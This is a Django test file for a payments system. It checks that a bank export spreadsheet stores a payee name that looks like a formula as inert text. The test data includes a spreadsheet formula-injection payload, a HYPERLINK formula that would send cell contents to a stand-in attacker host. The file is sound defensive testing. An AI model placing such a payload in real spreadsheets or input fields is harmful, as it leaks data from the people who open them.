"""The bank file never evaluates what a clerk typed (issue 10, item 13): a payee named
=HYPERLINK(...) reaches the bank's spreadsheet as those characters, in a text cell."""

import io
from decimal import Decimal

import openpyxl
from django.utils import timezone

from core.models import PaymentBatch, PaymentLine
from core.payments import bank_file
from tests.factories import PersonFactory

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_a_payee_name_that_looks_like_a_formula_is_written_as_text(db):
    batch = PaymentBatch.objects.create(program="assistance", month=timezone.localdate().replace(day=1))
    payee = PersonFactory(name=EVIL)
    PaymentLine.objects.create(batch=batch, source_type="assistance.case", source_id=1, payee=payee,
                               township=payee.township, category="dibao", members=1, amount=Decimal("775.00"),
                               bank_account="+6228480000000000001")  # fmt: skip
    sheet = openpyxl.load_workbook(io.BytesIO(bank_file(batch, batch.lines.all()))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    row = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert row[3] == EVIL and row[5] == "+6228480000000000001" and row[8] == 775
